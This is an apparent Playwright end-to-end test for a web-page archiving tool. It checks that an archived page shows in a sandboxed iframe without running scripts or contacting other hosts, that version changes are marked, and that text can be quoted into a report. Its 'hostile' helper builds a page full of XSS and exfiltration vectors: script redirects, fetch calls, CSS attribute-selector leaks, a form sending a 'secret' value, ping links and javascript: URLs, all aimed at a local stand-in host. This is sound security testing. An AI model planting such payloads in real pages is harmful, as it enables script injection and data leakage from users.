import { AxeBuilder } from '@axe-core/playwright'
import { type ReplaySite, startReplaySite } from '../server/testing/replay-site.ts'
import { expect, type TeamMember, test } from './journey.ts'
import { waitUntilSettled } from './settled.ts'

type CallApi = <T>(
  who: TeamMember,
  method: 'GET' | 'POST' | 'PUT' | 'DELETE',
  path: string,
  body?: unknown,
) => Promise<T>
type List<T> = { items: T[] }

let site: ReplaySite
let evil: ReplaySite
test.beforeAll(async () => {
  site = await startReplaySite()
  // Another host, which only the displayed page could request.
  evil = await startReplaySite('127.0.0.2')
})
test.afterAll(async () => {
  await site.close()
  await evil.close()
})

/** A page that tries everything a page can: to run, load, send, navigate and leak its content. */
function hostile(text: string): string {
  const at = evil.origin
  return `<html lang="en"><head><title>Harbour notices</title><meta http-equiv="refresh" content="600;url=${at}/refresh">
    <link rel="stylesheet" href="${at}/a.css"><link rel="prefetch" href="${at}/prefetch"><link rel="icon" href="${at}/icon">
    <style>@import url(${at}/import.css); @font-face { font-family: x; src: url(${at}/font) } body { font-family: x }
    body { background: url(${at}/background) } input[value^=s] { background: url(${at}/told) }</style>
    <script>top.location = '${at}/top'; fetch('${at}/fetch'); alert(1)</script></head>
    <body onload="top.location='${at}/load'" style="background:url(${at}/inline)"><main><h1>Harbour notices</h1>
    <p>The harbour office is closed on Sundays and on all holidays of the town.</p><p>${text}</p>
    <img src="${at}/image" srcset="${at}/set 2x" onerror="alert(2)"><video autoplay src="${at}/video"></video>
    <svg onload="alert(3)"><image href="${at}/svg" /></svg><object data="${at}/object"></object><embed src="${at}/embed">
    <iframe src="${at}/frame"></iframe><form action="${at}/form" target="_top"><input name="q" value="secret" autofocus>
    <button>Send</button></form><a href="${at}/link" target="_top" ping="${at}/ping">Read on</a>
    <a href="javascript:top.location='${at}/js'">Or this</a><base href="${at}/"></main></body></html>`
}

test('a page from the past runs nothing, marks changes, and is quoted in a report', async ({
  page,
  url,
  admin,
  enter,
  callApi,
  context,
}) => {
  test.setTimeout(180_000)
  const get = callApi as CallApi
  const fetchAll = async (og: number, number: number) => {
    await get(admin, 'POST', `/v1/og/${og}/round`)
    await expect
      .poll(async () => (await get<List<object>>(admin, 'GET', `/v1/og/${og}/round`)).items[0], {
        timeout: 60_000,
        intervals: [300],
      })
      .toMatchObject({ number, state: 'complete' })
  }
  site.set('/', hostile('Ships of the second class pay 12,300 on Mondays.'))
  const { id: og } = await get<{ id: number }>(admin, 'POST', '/v1/og', {
    name: `Harbour ${Date.now().toString(36)}`,
    entrances: [`${site.origin}/`],
  })
  await get(admin, 'PUT', `/v1/og/${og}/site`, { delay_ms: 0 })
  await fetchAll(og, 1)
  site.set('/', hostile('Ships of the second class pay 14,000 on Fridays.'))
  await fetchAll(og, 2)
  const { items } = await get<List<{ id: number }>>(admin, 'GET', `/v1/page?og_id=${og}`)
  const id = items[0]?.id
  site.requests.length = 0
  evil.requests.length = 0

  const dialogs: string[] = []
  page.on('dialog', dialog => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  await enter(page, admin, `/admin/page/${id}?tab=archive`, 'en-US')
  const frame = page.frameLocator('iframe[sandbox=""]')
  await expect(frame.locator('del')).toHaveText(['12,300', 'Mondays'])
  await expect(frame.locator('ins')).toHaveText(['14,000', 'Fridays'])
  await waitUntilSettled(page)
  const { violations } = await new AxeBuilder({ page }).exclude('iframe[sandbox]').analyze()
  expect(violations.map(({ id, nodes }) => [id, nodes.map(node => node.html.slice(0, 200))])).toEqual([])
  await page.getByRole('listbox').focus()
  await page.keyboard.press('Home')
  await expect(frame.getByText('12,300 on Mondays')).toBeVisible()
  await expect(frame.locator('ins, del')).toHaveCount(0)
  await page.keyboard.press('End')
  await expect(frame.locator('ins')).toHaveText(['14,000', 'Fridays'])
  // Clicks everything clickable in it.
  await frame.getByText('Read on').click({ force: true })
  await frame.getByText('Or this').click({ force: true })

  // Tests the sandbox and its policy without the cleaning: the original page in the same frame.
  const guard = await page.locator('iframe[sandbox=""]').evaluate((element: HTMLIFrameElement) => {
    const html = element.srcdoc
    return html.slice(0, html.indexOf('</style>') + '</style>'.length)
  })
  expect(guard).toContain("default-src 'none'")
  const bare = await context.newPage()
  bare.on('dialog', dialog => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  await bare.goto(`${url}/login`)
  await bare.evaluate(html => {
    const frame = document.createElement('iframe')
    frame.setAttribute('sandbox', '')
    frame.srcdoc = html
    document.body.replaceChildren(frame)
  }, guard + hostile('As it came.').replace('content="600;', 'content="0;'))
  await expect(bare.frameLocator('iframe').getByText('As it came.')).toBeVisible()
  await bare.frameLocator('iframe').getByText('Read on').click({ force: true })
  expect(new URL(bare.url()).origin).toBe(url)
  await bare.close()

  await page.getByText('Quote from “Text”').click()
  await page.getByText('Ships of the second class').first().selectText()
  await page.getByRole('button', { name: 'Quote in a report' }).click()
  const dialog = page.getByRole('dialog')
  await expect(dialog.getByLabel('Quotation')).toHaveValue('Ships of the second class pay')
  await dialog.getByRole('button', { name: 'Cancel' }).click()
  await page.locator('[data-line]').filter({ hasText: 'Ships of the second class' }).first().selectText()
  await page.keyboard.press('q')
  await expect(dialog.getByLabel('Quotation')).toHaveValue('Ships of the second class pay 14,000 on Fridays.')
  await dialog.getByRole('button', { name: 'Quote', exact: true }).click()
  await page.getByRole('button', { name: 'Open the report' }).click()
  await expect(page.getByText('Ships of the second class pay 14,000 on Fridays.')).toBeVisible()
  const { items: versions } = await get<List<{ is_evidence: boolean }>>(admin, 'GET', `/v1/page/${id}/timeline`)
  expect(versions.map(({ is_evidence }) => is_evidence)).toEqual([true, false])

  expect(new URL(page.url()).origin).toBe(url)
  expect(dialogs).toEqual([])
  expect(site.requests).toEqual([])
  expect(evil.requests).toEqual([])
})
